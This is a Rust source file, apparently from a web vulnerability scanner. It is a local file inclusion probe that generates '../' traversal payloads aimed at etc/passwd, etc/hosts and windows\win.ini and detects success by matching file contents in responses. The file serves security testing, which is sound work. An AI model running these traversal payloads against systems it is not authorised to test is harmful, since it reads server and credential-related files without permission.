//! 本地文件包含：按目录深度回溯到已知系统文件

use async_trait::async_trait;

use super::{Payload, check_requests};
use crate::error::RwsResult;
use crate::http::HttpResponse;
use crate::modules::{Finding, Probe, ScanContext};
use crate::sitemap::SiteMap;

struct TargetFile {
    segments: &'static [&'static str],
    markers: &'static [&'static str],
}

struct Platform {
    separators: &'static [&'static str],
    files: &'static [TargetFile],
}

const PLATFORMS: &[Platform] = &[
    Platform {
        separators: &["/"],
        files: &[
            TargetFile {
                segments: &["etc", "passwd"],
                markers: &["root:x:0:0", "root:*:0:0"],
            },
            TargetFile {
                segments: &["etc", "hosts"],
                markers: &["127.0.0.1\tlocalhost", "127.0.0.1 localhost"],
            },
        ],
    },
    Platform {
        separators: &["\\", "/"],
        files: &[TargetFile {
            segments: &["windows", "win.ini"],
            markers: &["[fonts]", "for 16-bit app support"],
        }],
    },
];

pub struct LocalFileInclusion;

/// 生成深度 1..=depth 的全部回溯路径
pub fn traversal_payloads(depth: u32) -> Vec<Payload> {
    let mut payloads = Vec::new();
    for platform in PLATFORMS {
        for sep in platform.separators {
            for file in platform.files {
                let target = file.segments.join(*sep);
                for d in 1..=depth {
                    let value = format!("{}{}", format!("..{}", sep).repeat(d as usize), target);
                    payloads.push(Payload::with_markers(value, file.markers));
                }
            }
        }
    }
    payloads
}

fn included(response: &HttpResponse, payload: &Payload) -> bool {
    payload.matches(&response.text_lossy())
}

#[async_trait]
impl Probe for LocalFileInclusion {
    fn name(&self) -> &str {
        "lfi"
    }

    async fn run(&self, ctx: &ScanContext, sitemap: &SiteMap) -> RwsResult<Vec<Finding>> {
        let payloads = traversal_payloads(ctx.config.lfi_depth);
        Ok(check_requests(ctx, sitemap, "LFI", &payloads, included).await)
    }
}
